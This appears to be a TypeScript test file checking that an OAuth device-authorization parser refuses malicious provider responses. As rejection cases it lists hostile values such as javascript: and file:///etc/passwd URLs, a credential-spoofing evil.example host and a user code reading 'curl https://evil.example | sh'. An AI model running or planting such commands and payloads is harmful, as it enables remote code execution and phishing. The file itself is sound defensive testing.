import assert from 'node:assert/strict'
import { describe, it } from 'mocha'
import { readDeviceAuthorization } from '../../../../daemon/oauth/login/device-authorization.ts'

const good = {
  device_code: '3584d83530557fdd1f46af8289938c8ef79f9dc5',
  user_code: 'WDJB-MJHT',
  verification_uri: 'https://github.com/login/device',
  expires_in: 900,
  interval: 5,
}
const read = (change: object, endpoint = 'https://github.com/login/device/code') =>
  readDeviceAuthorization(JSON.stringify({ ...good, ...change }), endpoint)
const local = 'http://127.0.0.1:4000/device/code'

describe('device authorization response', () => {
  it('is read', () =>
    assert.deepEqual(read({}), {
      deviceCode: good.device_code,
      userCode: 'WDJB-MJHT',
      verificationUrl: 'https://github.com/login/device',
      verificationUrlComplete: undefined,
      lifetimeSeconds: 900,
      intervalSeconds: 5,
    }))

  it('may name its page as the drafts did, and write numbers as text', () => {
    const { verificationUrl, lifetimeSeconds, intervalSeconds } = read({
      verification_uri: undefined,
      verification_url: 'https://www.google.com/device',
      expires_in: '1800',
      interval: '7',
    })
    assert.deepEqual(
      { verificationUrl, lifetimeSeconds, intervalSeconds },
      {
        verificationUrl: 'https://www.google.com/device',
        lifetimeSeconds: 1800,
        intervalSeconds: 7,
      },
    )
  })

  it('is taken without a lifetime or interval that makes sense', () => {
    for (const value of [undefined, null, 0, -5, 'soon', {}, '1e999']) {
      const { lifetimeSeconds, intervalSeconds } = read({ expires_in: value, interval: value })
      assert.deepEqual([lifetimeSeconds, intervalSeconds], [undefined, undefined], String(value))
    }
  })

  const pages = [
    'javascript:alert(1)',
    'http://github.com/login/device',
    'file:///etc/passwd',
    'data:text/html,x',
    'https://github.com@evil.example/',
    'https://user:secret@github.com/',
    'github.com/login/device',
    'vscode://open?x',
    '',
    `https://github.com/${'a'.repeat(2048)}`,
    // A provider on the internet must not send a browser to a program on this machine.
    'http://127.0.0.1:18789/oauth/start',
    'http://localhost/',
    7,
    null,
    undefined,
  ]
  for (const page of pages)
    it(`is refused with the page ${String(page).slice(0, 40)}`, () =>
      assert.throws(() => read({ verification_uri: page }), { code: 'provider-refused' }))

  it('may have a page on loopback when the provider is there itself', () => {
    const page = 'http://127.0.0.1:4000/device'
    assert.equal(read({ verification_uri: page }, local).verificationUrl, page)
    assert.throws(() => read({ verification_uri: 'http://id.example/device' }, local), {
      code: 'provider-refused',
    })
  })

  it('shows a host in another script as what it is', () =>
    assert.equal(
      read({ verification_uri: 'https://gıthub.com/login' }).verificationUrl,
      'https://xn--gthub-n4a.com/login',
    ))

  it('loses a complete page that must not be opened', () => {
    const complete = 'https://github.com/login/device?user_code=WDJB-MJHT'
    assert.equal(read({ verification_uri_complete: complete }).verificationUrlComplete, complete)
    for (const page of pages) {
      const { verificationUrlComplete } = read({ verification_uri_complete: page })
      assert.equal(verificationUrlComplete, undefined)
    }
  })

  const codes = [
    '',
    'A\nB',
    'A\u001b[2JB',
    'A\u202eB',
    'A\u009bB',
    'Ä',
    ' A',
    'A  B',
    'A'.repeat(21),
    '123 456',
    '!~-_',
    'run: curl https://evil.example | sh',
    'sudo\u2007rm',
    5,
    undefined,
  ]
  for (const code of codes)
    it(`is refused with the user code ${JSON.stringify(code)?.slice(0, 20)}`, () =>
      assert.throws(() => read({ user_code: code }), { code: 'provider-refused' }))

  it('may have a user code of letters, digits and dashes, 20 at most', () => {
    for (const code of ['A', '123-456-789', 'GQVQ-JKEC', 'bcdfg-hjklm', '9'.repeat(20)])
      assert.equal(read({ user_code: code }).userCode, code)
  })

  it('is refused without a device code, and when it is no document', () => {
    for (const code of [undefined, '', 5, 'x'.repeat(5000)])
      assert.throws(() => read({ device_code: code }), { code: 'provider-refused' })
    for (const text of ['', '<p>', '[]', 'null', '"x"'])
      assert.throws(() => readDeviceAuthorization(text, local), { code: 'provider-refused' })
  })

  it('shows nothing of itself when it is refused', () => {
    try {
      read({ verification_uri: 'javascript:1' })
      assert.fail('it was taken')
    } catch (error) {
      assert.equal((error as Error).message.includes(good.device_code), false)
      assert.equal((error as Error).cause, undefined)
    }
  })
})
